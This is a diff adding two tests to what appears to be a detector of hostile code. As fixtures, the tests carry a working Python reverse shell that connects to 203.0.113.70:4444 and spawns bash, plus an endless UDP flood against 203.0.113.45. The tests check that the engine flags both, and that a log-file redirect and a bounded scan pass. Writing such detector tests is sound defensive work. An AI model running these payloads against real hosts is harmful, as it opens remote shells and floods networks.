@@ -1017,3 +1017,29 @@ def test_a_loop_over_the_cells_endless_generator_of_packets_is_one_target(engine
               "    for data, dst in probes():\n        s.sendto(data, dst)\n"
               "for n in range(8):\n    threading.Thread(target=worker, daemon=True).start()")
     assert engine.check_code(probes).action == "allow"
+
+
+def test_descriptors_duplicated_through_a_partial_or_a_bound_fileno_are_a_remote_shell(engine):
+    """``map(partial(os.dup2, fd), (0, 1, 2))`` with ``fd = s.fileno()`` wires a shell to the connection as
+    ``os.dup2(s.fileno(), 0)`` does; the same done to a log file starts no remote shell."""
+    shell = ("import socket, os, pty\nfrom functools import partial\ns = socket.socket()\n"
+             "s.connect(('203.0.113.70', 4444))\nfd = s.fileno()\nlist(map(partial(os.dup2, fd), (0, 1, 2)))\n"
+             "pty.spawn('/bin/bash')")
+    verdict = engine.check_code(shell)
+    assert "remote_desktop_ssh.reverse-shell" in {f.rule for f in verdict.findings}, verdict.to_dict()
+    logged = ("import os, pty\nfrom functools import partial\nlog = open('session.log', 'w')\nfd = log.fileno()\n"
+              "list(map(partial(os.dup2, fd), (1, 2)))\npty.spawn('/bin/bash')")
+    assert engine.check_code(logged).action == "allow"
+
+
+def test_a_sweep_of_ports_that_starts_again_without_end_is_a_flood_a_single_sweep_is_a_scan(engine):
+    """``for p in ports()`` over a generator that yields random ports in ``while True`` floods one host whatever
+    port each packet takes; a generator that yields each port once is a scan, one probe per port."""
+    flood = ("import socket, random, os\nHOST = '203.0.113.45'\ndef ports():\n    while True:\n"
+             "        yield random.randint(1, 65535)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+             "junk = os.urandom(1400)\nfor p in ports():\n    s.sendto(junk, (HOST, p))")
+    verdict = engine.check_code(flood)
+    assert "dos_attack.flood-shape" in {f.rule for f in verdict.findings}, verdict.to_dict()
+    scan = ("import socket\nHOST = '10.0.0.5'\ndef ports():\n    for p in range(1, 1025):\n        yield p\n"
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor p in ports():\n    s.sendto(b'ping', (HOST, p))")
+    assert "dos_attack.flood-shape" not in {f.rule for f in engine.check_code(scan).findings}
